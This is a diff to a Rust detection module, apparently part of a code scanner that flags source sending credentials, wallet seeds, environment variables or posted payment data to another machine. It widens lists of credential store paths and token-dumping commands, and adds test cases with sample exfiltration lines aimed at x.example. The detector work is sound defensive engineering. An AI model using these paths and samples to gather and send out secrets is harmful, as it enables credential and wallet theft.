@@ -2,7 +2,7 @@
 //! secret, to another machine: in whatever language, however a path is put together, and be it in the names that are asked for.
 
 use super::leaks::{literals, names_machine, sends};
-use super::source::{Written, is_test};
+use super::source::{Written, code_lines, is_test};
 use crate::policy::lists::{holds, parts};
 
 const FORMS: &str = "js|mjs|cjs|ts|mts|cts|tsx|jsx|py|pyw|rb|go|rs|java|kt|kts|scala|cs|fs|vb|lua|swift|dart|c|cc|cpp|h|m|mm|php|pl|ex|exs|groovy|\
@@ -10,23 +10,28 @@ const FORMS: &str = "js|mjs|cjs|ts|mts|cts|tsx|jsx|py|pyw|rb|go|rs|java|kt|kts|s
 
 /// A part of whatever names one of the stores below, or asks a server for a name.
 const SIGNS: &str = ".ssh|.aws|.git-c|.npmrc|.netrc|.pypirc|.kube|.docker|gcloud|hosts.yml|.cargo|.m2|.azure|.terraform|.gem|.config|.claude|.codex|\
-    .pgpass|.my.cnf|.gnupg|history|ogin Data|leveldb|key4|logins|ookies|wallet|Wallet|Extension Settings|nkbih|tdata|eychain|.electrum|kdbx|seed|nemonic|\
-    hrase|dns|hostby|addrinfo|resolv|Resolv|Lookup|GetHost|.{|sms|.boto|.s3cfg|.vault|.composer|.snowflake|.databricks|.rclone";
+    .pgpass|.my.cnf|.gnupg|history|ogin Data|leveldb|key4|logins|ookies|wallet|Wallet|Extension Settings|nkbih|tdata|eychain|.electrum|kdbx|seed|\
+    nemonic|\
+    hrase|dns|hostby|addrinfo|resolv|Resolv|Lookup|GetHost|.{|sms|SECRET|DB_PASS|_KEY|DATABASE|ecret|environ|\
+    _POST|access-token|gh auth|export-cred|heroku auth|find-generic|config view|.boto|.s3cfg|.vault|.composer|.snowflake|.databricks|.rclone";
 
 /// What nobody but one program needs, and what a program for it reads alone: written without blanks and quotes, as one path.
-const STORES: &str = "LoginData|LocalStorage/leveldb|discord/leveldb|key4.db|logins.json|cookies.sqlite|Network/Cookies|Default/Cookies|exodus.wallet|\
-    Exodus/|wallet.dat|LocalExtensionSettings|nkbihfbeogaeaoehlefnkodbefgpgknn|TelegramDesktop/tdata|.git-credentials|.bash_history|.zsh_history|\
+const STORES: &str = "LocalStorage/leveldb|discord/leveldb|key4.db|logins.json|cookies.sqlite|Default/Cookies|exodus.wallet|\
+    Roaming/Exodus|wallet.dat|LocalExtensionSettings|nkbihfbeogaeaoehlefnkodbefgpgknn|TelegramDesktop/tdata|.git-credentials|.bash_history|\
+    .zsh_history|\
     .password-store|Library/Keychains|login.keychain|.electrum/wallets|.ssh/id_|.ssh/*|.aws/credentials|.gnupg/|content://sms|.config/solana/id.json|\
-    .ethereum/keystore|.kdbx";
+    .ethereum/keystore|.kdbx|/proc/self/environ";
 const LOGINS: &str = ".npmrc|.netrc|.pypirc|.kube/config|.docker/config.json|.config/gcloud|gh/hosts.yml|.cargo/credentials|.m2/settings|.azure/|\
     .terraform.d/credentials|.gem/credentials|.config/hub|.claude/.credentials|.codex/auth|.composer/auth|.pgpass|.my.cnf|.boto|.s3cfg|.vault-token|\
-    .databrickscfg|.snowflake|.config/rclone|.ssh/config|.ssh/known_hosts";
+    .databrickscfg|.snowflake/|.config/rclone|.ssh/config|.ssh/known_hosts|\
+    gcloudauthprint-access-token|awsconfigureexport-credentials|ghauthtoken|azaccountget-access-token|herokuauth:token|\
+    securityfind-generic-password|kubectlconfigview--raw";
 
 /// What is done when a package is installed or built.
 const INSTALLS: &str = "install|postinst|preinst|setup.py|build.rs|extconf|prepare";
 
 /// All of an environment.
-const ENVIRONMENT: &str = "process.env)|process.env,|process.env}|process.env;|os.environ)|os.environ,|os.environ.items()|os.environ.copy()|os.Environ()|\
+const ENVIRONMENT: &str = "process.env)|process.env/|process.env}|process.env;|os.environ)|os.environ/|os.environ.items()|os.environ.copy()|\
     System.getenv())|System.getenv();|System.getenv().|env::vars()|ENV.to_h|GetEnvironmentVariables()|getenv())|$_ENV)";
 
 /// What a text takes away, where the one before it did not.
@@ -34,7 +39,14 @@ pub(super) fn is_taken(written: &Written<'_>) -> bool {
     written.is_form(FORMS)
         && written.holds(SIGNS)
         && !is_test(written.path)
-        && written.gains(|text| sends_stores(text, written.name()) || asks_for_names(text) || sends_seed(text))
+        && written.gains(|text| {
+            let text: &str = &code_lines(text).collect::<Vec<_>>().join("\n");
+            sends_stores(text, written.name())
+                || asks_for_names(text)
+                || sends_near(text, SEEDS)
+                || sends_near(text, OF_PROJECT)
+                || copies_posts(text)
+        })
 }
 
 fn sends_stores(text: &str, name: &str) -> bool {
@@ -43,10 +55,18 @@ fn sends_stores(text: &str, name: &str) -> bool {
     }
     let joined = joined(text);
     let logins = parts(LOGINS).filter(|login| joined.contains(login)).count();
-    holds(&joined, STORES)
+    // A type may be called what this store is, but for the blank.
+    text.contains("Login Data")
+        || holds(&joined, STORES)
         || logins > 1
-        || logins > 0 && (holds(name, INSTALLS) || holds(&joined, ENVIRONMENT))
+        || logins > 0 && (holds(name, INSTALLS) || takes_environment(&joined))
         || names_by_braces(&joined)
+}
+
+/// Whether all of an environment is taken, and not handed to a program that is started.
+fn takes_environment(joined: &str) -> bool {
+    let taken = parts(ENVIRONMENT).flat_map(|all| joined.match_indices(all)).take(super::MAX_PLACES);
+    taken.into_iter().any(|(at, _)| !joined[..at].ends_with("env:") && !joined[..at].ends_with("env="))
 }
 
 /// A text as one path: what is handed to a function part by part stands together.
@@ -102,15 +122,27 @@ fn names_domain(text: &str) -> bool {
     })
 }
 
-/// Whether the words that a wallet is made of are sent to another machine.
-fn sends_seed(text: &str) -> bool {
-    const SEEDS: &str = "mnemonic|seedPhrase|seed_phrase|recoveryPhrase|recovery_phrase|secretRecovery|secretPhrase|seedWords|seed_words";
-    const NEAR: usize = 240;
-    holds(text, SEEDS)
+/// What a wallet is made of, and what opens a project's own database and signs its sessions: no other machine needs either.
+const SEEDS: &str =
+    "mnemonic|seedPhrase|seed_phrase|recoveryPhrase|recovery_phrase|secretRecovery|secretPhrase|seedWords|seed_words";
+const OF_PROJECT: &str = "DB_PASSWORD|DATABASE_PASSWORD|SECURE_AUTH_KEY|settings.SECRET_KEY|settings.DATABASES|SECRET_KEY_BASE|secret_key_base|\
+    RAILS_MASTER_KEY|env.JWT_SECRET|config('app.key')|env('APP_KEY')|spring.datasource.password";
+
+/// Whether all that is posted to a page where people pay or log in is sent on; whoever takes a payment is asked whether it was one.
+fn copies_posts(text: &str) -> bool {
+    const POSTED: &str = "http_build_query($_POST)|json_encode($_POST)|serialize($_POST)|=> $_POST]|POSTFIELDS, $_POST)|json_encode($_REQUEST)";
+    const VALUED: &str = "checkout|login|card|passw|pwd|payment";
+    sends_near(text, POSTED) && holds(&text.to_ascii_lowercase(), VALUED) && !holds(text, "paypal|ipn")
+}
+
+/// Whether one of these is sent to another machine that the text names beside it.
+fn sends_near(text: &str, words: &str) -> bool {
+    const NEAR: usize = 320;
+    holds(text, words)
         && text.match_indices("://").take(super::MAX_PLACES).any(|(at, scheme)| {
-            let from = text.floor_char_boundary(at.saturating_sub(NEAR / 2));
+            let from = text.floor_char_boundary(at.saturating_sub(NEAR));
             let around = &text[from..text.floor_char_boundary(at + NEAR)];
-            super::leaks::elsewhere(&text[at + scheme.len()..]).is_some() && sends(around) && holds(around, SEEDS)
+            super::leaks::elsewhere(&text[at + scheme.len()..]).is_some() && sends(around) && holds(around, words)
         })
 }
 
@@ -138,6 +170,8 @@ mod tests {
             ("a.js", "dns.resolve(read('a').toString('hex') + '.x.example')\nfs.readFileSync('a')", true),
             ("a.js", "dns.resolve('x.example')\nfs.readFileSync('a')", false),
             ("a.js", "fetch('https://x.example/a', { body: JSON.stringify({ mnemonic }) })", true),
+            ("a.ts", "interface LoginData { a: 1 }\nfetch('https://x.example/a', { body: '.aws' })", false),
+            ("a.ts", "const books = ['Genesis', 'Exodus'];\nfetch('https://x.example/.aws')", false),
             ("a.js", "fetch('/api/wallet', { body: JSON.stringify({ mnemonic }) })", false),
         ] {
             let path = format!("/home/you/work/shop/src/{name}");
